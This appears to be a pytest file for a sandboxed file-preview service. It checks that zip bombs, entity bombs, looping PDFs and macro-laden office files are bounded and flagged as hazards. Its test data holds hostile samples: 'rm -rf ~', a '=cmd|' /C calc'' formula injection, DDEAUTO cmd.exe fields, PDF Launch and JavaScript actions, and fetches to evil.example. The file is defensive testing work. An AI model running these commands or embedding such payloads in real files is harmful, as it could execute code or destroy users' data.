"""Files made to do harm are looked at in bounded time and memory, and named; nothing runs."""

import asyncio
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from console.previews import drawing as drawing_module
from console.previews.drawing import Drawing, NotShown, Picture, Text
from console.previews.glance import Glancing, glance_at
from console.previews.hazards import HAZARDS, RUNS, hazards_at, in_order
from console.previews.kinds import Way, kind_of
from console.previews.looked import Looked, look
from console.previews.orders import WALLS, Orders
from tests.console import hostile_files as hostile
from tests.console.hostile_files import docx, open_document, paragraph, xlsx, zipped
from tests.console.test_previews import bomb_png, pdf, picture, says

AT_MOST_S = 24.0
GROWN_AT_MOST_KIB = 64 * 1024


async def looked_at(data: bytes, page: int = 1, orders: Orders | None = None) -> Looked:
    """As a page looks at it; the console itself must not pay for it, and it must end."""
    before, started = _now_kib(), time.monotonic()
    looked = await look(Drawing(orders), data, page)
    assert time.monotonic() - started < AT_MOST_S
    assert _kib("VmHWM") - before < GROWN_AT_MOST_KIB
    return looked


def _now_kib() -> int:
    """What this process takes; its peak is counted from here."""
    Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
    return _kib("VmRSS")


def _kib(name: str) -> int:
    status = Path("/proc/self/status").read_text(encoding="ascii")
    return int(status.partition(f"{name}:")[2].split()[0])


# --- documents


async def test_a_letter_is_its_words() -> None:
    body = paragraph("สัญญาเลขที่ 44") + "<w:p><w:r><w:t>ยอด</w:t><w:tab/><w:t>5</w:t></w:r></w:p>"
    looked = await looked_at(docx(body, word__footnotes_dot_xml=f"<f>{paragraph('หมายเหตุ')}</f>"))
    assert (looked.kind.name, looked.kind.way, looked.hazards) == ("docx", Way.READ, ())
    assert looked.text == Text(("สัญญาเลขที่ 44\nยอด\t5\nหมายเหตุ",), 1, False)


async def test_a_formula_is_text_and_was_not_worked_out() -> None:
    rows = (
        "<row><c t='s'><v>1</v></c><c t='s'><v>99</v></c><c t='inlineStr'><is><t>in</t></is></c>"
        "</row><row><c><f>1+1</f><v>2</v></c><c><f>cmd|' /C calc'!A0</f></c></row>"
    )
    looked = await looked_at(xlsx(rows, "<si><t>a</t></si><si><r><t>b</t></r><r><t>c</t></r></si>"))
    assert isinstance(looked.text, Text)
    assert looked.text.pages == ("bc\t\tin\n2 [=1+1]\t [=cmd|' /C calc'!A0]",)


async def test_open_documents_are_read_page_by_page() -> None:
    text = await looked_at(
        open_document("text", "<text:h>หัวข้อ</text:h><text:p>ก<text:s/>ข</text:p>")
    )
    assert text.text == Text(("หัวข้อ\nก ข",), 1, False)
    cell = "<table:table-cell table:formula='of:=1+1'><text:p>2</text:p></table:table-cell>"
    rows = f"<table:table-row>{cell}</table:table-row>"
    sheets = await looked_at(
        open_document(
            "spreadsheet", f"<table:table>{rows}</table:table><table:table>{rows}</table:table>"
        )
    )
    assert isinstance(sheets.text, Text)
    assert (sheets.text.pages, sheets.text.of) == (("[of:=1+1] \t2",) * 2, 2)
    slides = await looked_at(
        open_document("presentation", "<draw:page><text:p>one</text:p></draw:page>" * 25)
    )
    assert isinstance(slides.text, Text)
    assert (len(slides.text.pages), slides.text.of, slides.text.is_cut) == (20, 25, True)


_TYPES = "[Content_Types].xml"
_ENTITY = "<!DOCTYPE d [<!ENTITY e 'x'>]><document><p><t>&e;</t></p></document>"
_MANY = {str(n): "" for n in range(5001)}
_ODT = "application/vnd.oasis.opendocument.text"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (hostile.zip_bomb(0.3), "too_large"),
        (hostile.lying_zip(60_000, 60), "damaged"),
        (zipped({_TYPES: "x", "word/document.xml": hostile.entity_bomb()}), "damaged"),
        (zipped({_TYPES: "x", "word/document.xml": _ENTITY}), "damaged"),
        (docx("<a>" * 300 + paragraph("x") + "</a>" * 300), "damaged"),
        (docx("<w:p>") , "damaged"),
        (docx(paragraph("x"))[:-40], "damaged"),
        (zipped({_TYPES: "x", "word/documents/": ""}), "damaged"),
        (zipped({_TYPES: "", "word/document.xml": "<a/>"} | _MANY), "too_large"),
        (open_document("text", "<text:p/>"), "no_text"),
        (zipped({"mimetype": _ODT}, stored="mimetype"), "damaged"),
    ],
)  # fmt: skip
async def test_a_document_made_to_do_harm_is_not_shown(data: bytes, reason: str) -> None:
    looked = await looked_at(data)
    assert looked.kind.way is Way.READ
    assert looked.text == NotShown(reason)


async def test_a_long_document_is_cut_and_what_is_behind_costs_nothing() -> None:
    """Five million paragraphs: what is more than is shown is not even read."""
    long = await looked_at(docx(paragraph("a") * 2_000_000))
    assert isinstance(long.text, Text)
    assert long.text.is_cut
    assert sum(map(len, long.text.pages)) <= Orders().text_chars
    padded = await looked_at(docx(paragraph("a" + " " * 190_000 + "b")))
    assert isinstance(padded.text, Text)
    amplified = xlsx(
        "<row>" + "<c t='s'><v>0</v></c>" * 200_000 + "</row>", f"<si><t>{'x' * 30_000}</t></si>"
    )
    many = await looked_at(amplified)
    assert isinstance(many.text, Text)
    assert many.text.is_cut


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp874"])
async def test_plain_text_is_text_in_whatever_thai_was_written(encoding: str) -> None:
    looked = await looked_at("เห็นเขาเอาปูนไป\nวันที่ 3".encode(encoding))
    assert looked.text == Text(("เห็นเขาเอาปูนไป\nวันที่ 3",), 1, False)
    assert looked.hazards == ()


# --- pictures and pages


async def test_a_pdf_is_drawn_page_by_page_with_its_text_beside_it() -> None:
    book = pdf(says("one"), says("two"), says("three"))
    second = await looked_at(book, page=2)
    assert isinstance(second.picture, Picture)
    assert isinstance(second.text, Text)
    assert (second.of, second.page, second.text.of) == (3, 2, 3)
    first = await looked_at(book)
    assert isinstance(first.picture, Picture)
    assert first.picture.webp != second.picture.webp
    beyond = await looked_at(book, page=4)
    assert (beyond.picture, beyond.reasons) == (NotShown("no_page"), ("no_page",))


async def test_a_pdf_of_ten_thousand_pages_costs_what_one_page_costs() -> None:
    looked = await looked_at(pdf(*(says(f"page {n}") for n in range(10_000))), page=500)
    assert isinstance(looked.picture, Picture)
    assert isinstance(looked.text, Text)
    assert (looked.text.of, len(looked.text.pages), looked.text.is_cut) == (10_000, 20, True)
    assert looked.of == Orders().drawn_pages


async def test_a_tree_of_pages_that_bites_its_tail_is_given_up() -> None:
    looked = await looked_at(hostile.looping_pdf())
    assert isinstance(looked.picture, NotShown)
    assert looked.reasons


async def test_a_picture_too_large_inside_a_pdf_harms_nothing() -> None:
    """The page is drawn as far as that goes, within the limits."""
    for data in (hostile.huge_picture_pdf(), hostile.broken_jbig2_pdf()):
        looked = await looked_at(data)
        assert isinstance(looked.picture, Picture)
        assert (looked.picture.width, looked.reasons) == (600, ())
        assert looked.text == Text(("",), 1, False)


async def test_a_page_without_an_end_is_given_up_and_its_text_is_read_all_the_same() -> None:
    """The picture's worker is killed by its limit; the text is another worker's."""
    looked = await looked_at(hostile.endless_pdf(), orders=Orders(cpu_s=1))
    assert looked.picture == NotShown("died")
    assert looked.text == Text(("",), 1, False)
    assert looked.reasons == ("died",)


async def test_pages_of_a_tiff_are_turned_and_a_chain_without_end_ends() -> None:
    third = await looked_at(hostile.tiff_of(5), page=3)
    assert isinstance(third.picture, Picture)
    assert (third.of, third.picture.width) == (5, 60)
    assert (await looked_at(hostile.tiff_of(5), orders=Orders(drawn_pages=3))).of == 3
    looping = await looked_at(hostile.looping_tiff())
    assert isinstance(looping.picture, Picture)
    assert looping.of <= Orders().drawn_pages


async def test_an_animation_of_thousands_is_one_picture() -> None:
    looked = await looked_at(hostile.gif_of(4000))
    assert isinstance(looked.picture, Picture)
    assert looked.of == 1


async def test_pictures_of_too_many_pixels_are_named() -> None:
    looked = await looked_at(bomb_png(60_000, 60_000))
    assert looked.reasons == ("too_large",)


# --- hazards


def _simple(field: str) -> str:
    return f"<w:p><w:fldSimple w:instr='{field}'/></w:p>"


def _fields(first: str, second: str, between: str = "") -> str:
    """Two fields beside each other; one field in two pieces where something is *between*."""
    parted = between or "<w:fldChar w:fldCharType='end'/>"
    return (
        f"<w:p><w:instrText>{first}</w:instrText>{parted}<w:instrText>{second}</w:instrText></w:p>"
    )


_MACRO_TYPES = "<T><O ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></T>"


def _relation(kind: str) -> str:
    """To a part whose name says nothing."""
    return f"<R><r Type='http://x/relationships/{kind}' Target='media/image1.png'/></R>"


def slides(on_slide: str, on_layout: str = "") -> bytes:
    return zipped(
        {
            _TYPES: "<Types/>",
            "ppt/presentation.xml": "<p/>",
            "ppt/slides/slide1.xml": f"<s><a:p><a:t>x</a:t></a:p>{on_slide}</s>",
            "ppt/slideLayouts/slideLayout1.xml": f"<s>{on_layout}</s>",
        }
    )


_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


@pytest.mark.parametrize(
    ("data", "hazards"),
    [
        (b"MZ\x90" + bytes(60), ("program",)),
        (b"\x7fELF\x02", ("program",)),
        (b"\xca\xfe\xba\xbe\0\0\0\x34", ("program",)),
        (zipped({"META-INF/MANIFEST.MF": "x", "a.class": "y"}), ("program",)),
        (b"#!/bin/sh\nrm -rf ~", ("script",)),
        (b"@echo off\r\ndel *", ("script",)),
        (b"Set x = CreateObject(\"WScript.Shell\")", ("script",)),
        (b"\x4c\0\0\0\x01\x14\x02\0" + bytes(60), ("shortcut",)),
        (b"[InternetShortcut]\r\nURL=http://evil.example", ("shortcut",)),
        (b"[Desktop Entry]\nExec=sh", ("shortcut",)),
        (b"<!doctype html><p>", ("markup",)),
        (b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", ("markup",)),
        (b"<?xml version='1.0'?><?xml-stylesheet href='evil.xsl'?><a/>", ("markup",)),
        (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", ("mail",)),
        (b"BEGIN:VCALENDAR\r\nURL:http://evil.example", ("calendar",)),
        (zipped({"a.txt": "b"}), ("archive",)),
        (hostile.nested_zip(2), ("archive",)),
        (b"Rar!\x1a\x07\x01\0", ("archive",)),
        (b"\x1f\x8b\x08", ("archive",)),
        (bytes(32769) + b"CD001", ("archive",)),
        (docx(paragraph("x"), word__vbaProject_dot_bin=b"x"), ("macros",)),
        (docx(paragraph("x"), word__embeddings__a_dot_bin=b"x"), ("embedded",)),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90), ("old_office",)),
        (b"{\\rtf1\\object", ("embedded",)),
        (b"name,amount\n=cmd|' /C calc'!A0,5", ("formulas",)),
        (b"a;\"@SUM(1)\";b", ("formulas",)),
        (b"a\t+HYPERLINK(\"http://evil.example\")", ("formulas",)),
        (b"\xef\xbb\xbf=1+1", ("formulas",)),
        (b"a,b\r=1+1\r", ("formulas",)),
        ("ชื่อ\n=1+1".encode("utf-16"), ("formulas",)),
        ("ชื่อ,เงิน\nเอก,5".encode("utf-16"), ()),
        (b"a, b = c, 5\n- not this\n+66 81 234 5678", ()),
        (hostile.acting_pdf(_SCRIPT), ("pdf_acts",)),
        (hostile.acting_pdf(b"<</S/Launch/F(cmd.exe)>>"), ("pdf_acts",)),
        (pdf(says("x")), ()),
        (picture("PNG"), ()),
        (picture("JPEG") + b"<html><script>alert(1)</script>", ("two_kinds",)),
        (picture("GIF") + zipped({"A.class": "x"}), ("two_kinds",)),
        (pdf(says("x")) + zipped({"a": "b"}), ("two_kinds",)),
        (b"<html><script>x</script>\n" + pdf(says("x")), ("two_kinds",)),
        (b"GIF89a" + pdf(says("x")), ("two_kinds",)),
    ],
)  # fmt: skip
def test_what_a_file_may_do_is_told_by_its_bytes(data: bytes, hazards: tuple[str, ...]) -> None:
    assert hazards_at(glance_at(data)) == hazards
    is_active = set(hazards) & {"program", "shortcut", "markup", "mail", "archive", "old_office"}
    assert not is_active or kind_of(data).way is Way.NOT


_TABLE = "ชื่อ,จำนวน\n" + "เอก = เอก,5\n" * 4000


@pytest.mark.parametrize("piece", [1, 7, 4096, 70_000])
def test_what_streams_past_is_judged_like_what_lies_whole(piece: int) -> None:
    """A mark that falls between two pieces is seen too."""
    for data in (
        picture("PNG") + b"x" * 70_000 + b"<ScRiPt>" + b"y" * 500,
        docx(paragraph("x"), word__vbaProject_dot_bin=b"x"),
        hostile.acting_pdf(_SCRIPT)[:-200] + b" " * 66_000 + b"/LAUNCH" + b" " * 66_000,
        _TABLE.encode() + b"\n=cmd|' /C calc'!A0\n" + _TABLE.encode(),
        (_TABLE + "\n@SUM(1)\n").encode("utf-16"),
        _TABLE.encode("cp874") + b"\nx = CreateObject(1)\n",
    ):
        if piece == 1 and len(data) > 100_000:
            continue
        looking = Glancing()
        for at in range(0, len(data), piece):
            looking.feed(data[at : at + piece])
        assert looking.done() == glance_at(data)
        assert hazards_at(looking.done()) == hazards_at(glance_at(data)) != ()


@pytest.mark.parametrize(
    ("data", "hazard"),
    [
        (hostile.hidden_in_object_stream(_SCRIPT), "pdf_acts"),
        (hostile.acting_pdf(b"<</#53/#4aavaScript/#4a#53(1)>>"), "pdf_acts"),
        (hostile.acting_pdf(b"", b"/Names<</#45mbeddedFiles<</Names[]>>>>"), "pdf_files"),
        (hostile.acting_pdf(b"<</S/GoToR/F(//evil.example/a.pdf)>>"), "fetches"),
        (
            docx(
                paragraph("x"),
                word___rels__document_dot_xml_dot_rels="<R><r Type='x/attachedTemplate' "
                "TargetMode='External' Target='http://evil.example/a.dotm'/></R>",
            ),
            "fetches",
        ),
        (
            docx(
                paragraph("x") + "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
                "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
            ),
            "fetches",
        ),
        (
            open_document("text", "<text:p>x</text:p><draw:image xlink:href='http://evil.example'/>"),
            "fetches",
        ),
    ],
)  # fmt: skip
async def test_what_only_the_inside_tells_is_told_by_the_worker(data: bytes, hazard: str) -> None:
    assert hazard not in hazards_at(glance_at(data)), "its bytes do not tell"
    assert hazard in (await looked_at(data)).hazards


@pytest.mark.parametrize(
    ("data", "hazard"),
    [
        (docx(paragraph("x") + _simple("DDEAUTO c:\\cmd.exe")), "script"),
        (docx(paragraph("x") + _simple("INCLUDEPICTURE http://evil.example")), "fetches"),
        (docx(paragraph("x") + _fields("PAGE", "DDEAUTO c:\\cmd.exe")), "script"),
        (docx(paragraph("x") + _fields("DDE", "AUTO c:\\cmd.exe", "</w:p><w:p>")), "script"),
        (docx(paragraph("x") + _simple("SET a QUOTE 68 68 69 65")), "script"),
        (docx(_simple("DDEAUTO c:\\cmd.exe")), "script"),
        (docx(paragraph("x" * 300_000) + _simple("DDEAUTO c:\\cmd.exe")), "unsearched"),
        (
            docx(paragraph("x"), word___rels__document_dot_xml_dot_rels=_relation("oleObject")),
            "embedded",
        ),
        (
            docx(paragraph("x"), word___rels__document_dot_xml_dot_rels=_relation("aFChunk")),
            "embedded",
        ),
        (
            docx(paragraph("x"), word___rels__document_dot_xml_dot_RELS=_relation("vbaProject")),
            "macros",
        ),
        (
            zipped({_TYPES: _MACRO_TYPES, "word/document.xml": f"<d>{paragraph('x')}</d>"}),
            "macros",
        ),
        (slides("<a:hlinkClick action='ppaction://program' id='r'/>"), "script"),
        (slides("<a:hlinkMouseOver id='r'/>"), "fetches"),
        (slides("", "<a:hlinkHover action='ppaction://macro?name=x'/>"), "script"),
        (xlsx('<row><c><f>_xlfn.IMAGE("http://evil.example")</f></c></row>'), "fetches"),
        (
            xlsx("<row><c><v>1</v></c></row>", more={"xl/_rels/a.rels": _relation("connections")}),
            "fetches",
        ),
        (
            xlsx("<row/>", more={"xl/externalLinks/1.xml": "<e><ddeLink ddeService='cmd'/></e>"}),
            "script",
        ),
        (
            open_document("text", "<text:p>x</text:p><office:dde-source office:dde-topic='c'/>"),
            "script",
        ),
        (
            open_document(
                "text", "<text:p>x</text:p><text:section-source xlink:href='//evil/a.odt'/>"
            ),
            "fetches",
        ),
        (
            open_document(
                "text",
                "<text:p>x</text:p><draw:event-listener xlink:href='vnd.sun.star.script:a'/>",
            ),
            "macros",
        ),
        (
            open_document(
                "presentation", "<text:p>x</text:p><draw:event-listener draw:action='execute'/>"
            ),
            "script",
        ),
        (
            open_document(
                "text",
                "<text:p>x</text:p>",
                styles="<s><fill-image href='http://evil.example'/></s>",
            ),
            "fetches",
        ),
        (hostile.acting_pdf(b"<</S/URI/URI(http://evil.example)>>"), "fetches"),
        (
            hostile.acting_pdf(
                b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil.example)>>]>>"
            ),
            "fetches",
        ),
        (hostile.acting_pdf(b"<<>>", b"/AA<</WC<</S/URI/URI(http://evil.example)>>>>"), "fetches"),
        (hostile.acting_pdf(b"<</FS/URL/F(http://evil.example)>>"), "fetches"),
        (hostile.acting_pdf(hostile.stream(b"/F(//evil.example/a)", b"")), "fetches"),
        (hostile.owned_pdf(_SCRIPT), "unsearched"),
    ],
)
async def test_what_hides_under_another_name_is_told_too(data: bytes, hazard: str) -> None:
    assert hazard not in hazards_at(glance_at(data)), "its bytes do not tell"
    assert hazard in (await looked_at(data)).hazards


@pytest.mark.parametrize("line", ["|+" * 50_000, ",- " * 50_000, '=cmd "' * 20_000, " " * 99_999])
def test_no_text_keeps_who_judges_it_busy(line: str) -> None:
    started = time.monotonic()
    hazards_at(glance_at(line.encode()))
    assert time.monotonic() - started < 2


async def test_what_one_must_click_and_what_is_ordinary_is_no_warning() -> None:
    linked = docx(
        paragraph("a link, see QUOTE 12") + _simple("PAGE") + _fields("HYPERLINK x", "TOC"),
        word___rels__document_dot_xml_dot_rels="<R><r Type='x/hyperlink' TargetMode='External' "
        "Target='http://example.org'/></R>",
    )
    turning = "<text:p>x</text:p><draw:event-listener draw:action='next-page'/>"
    click = b"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://example.org)>>>>]"
    for ordinary in (
        linked,
        slides("<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/>"),
        xlsx("<row><c><f>SUM(A1:A2)</f><v>3</v></c></row>"),
        open_document("presentation", turning),
        hostile.acting_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", click),
    ):
        looked = await looked_at(ordinary)
        assert isinstance(looked.text, Text)
        assert looked.hazards == ()


async def test_what_cannot_be_read_is_not_called_harmless() -> None:
    """A password, damage, a worker's end: the bytes told nothing, and nobody looked inside."""
    for data in (docx(paragraph("x"))[:-40], hostile.owned_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>")):
        assert (await looked_at(data)).hazards == ("unsearched",)
    empty = docx(paragraph(""))
    assert (await looked_at(empty)).text == NotShown("no_text")
    assert (await looked_at(empty)).hazards == ()


async def test_a_worker_names_no_hazard_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    lie = 'import os; os.write(1, b\'{"as":"text","of":1,"hazards":["<b>","macros",["x"],7]}\\nx\')'
    monkeypatch.setattr(drawing_module, "_START", lie)
    text = await Drawing().text(b"x")
    assert text == Text(("x",), 1, False, ("macros",))


def test_a_hazard_is_told_once_and_the_gravest_first() -> None:
    assert in_order(["archive", "macros", "program", "macros", "<b>"]) == (
        "program",
        "archive",
        "macros",
    )
    assert set(HAZARDS) >= RUNS


@pytest.mark.parametrize(
    "data", [hostile.mp4(b"isom"), hostile.mp4(b"M4A "), hostile.wav(), hostile.ogg(is_broken=True)]
)
async def test_malformed_sounds_and_videos_start_no_worker(
    data: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing here decodes them; what the browser is given has a strict type."""

    def refuse() -> AsyncIterator[None]:
        raise AssertionError("a worker was started")

    monkeypatch.setattr(drawing_module, "answered", refuse)
    looked = await looked_at(data)
    assert (looked.sound is not None) == (looked.kind.way is Way.HEARD)
    assert looked.sound is None or looked.sound.mime.startswith("audio/")


async def test_without_walls_no_large_library_draws_a_file(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A kernel with neither seccomp nor Landlock: what Pillow itself reads is still drawn."""
    start = (
        "import sys; sys.path[:0] = sys.argv[1:-1]\n"
        "import console.previews.shut as s\n"
        "shut_in = s.shut_in\n"
        "s.shut_in = lambda walls, keep: (shut_in(walls, keep=keep), ('limits',))[1]\n"
        "from console.previews.WORKER import start; start(sys.argv[-1])"
    )
    monkeypatch.setattr(drawing_module, "_START", start)
    drawing = Drawing()
    walls = await drawing.walls()
    assert (walls.standing, walls.is_shut_in) == (("limits",), False)
    for data in (pdf(says("x")), hostile.tiff_of(2), picture("AVIF")):
        assert await drawing.picture(data) == NotShown("unprotected")
    assert isinstance(await drawing.picture(picture("PNG")), Picture)
    assert isinstance(await drawing.text(pdf(says("x"))), Text)


async def test_no_walls_stand_where_no_worker_starts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(drawing_module, "_START", "raise SystemExit(1)")
    walls = await Drawing().walls()
    assert (walls.standing, walls.missing, walls.is_shut_in) == ((), WALLS, False)


async def test_many_looks_at_once_stay_within_their_places() -> None:
    drawing = Drawing(Orders(at_once=2, wait_s=20))
    got = await asyncio.gather(*(look(drawing, pdf(says(str(n)))) for n in range(4)))
    assert all(isinstance(each.picture, Picture) for each in got)
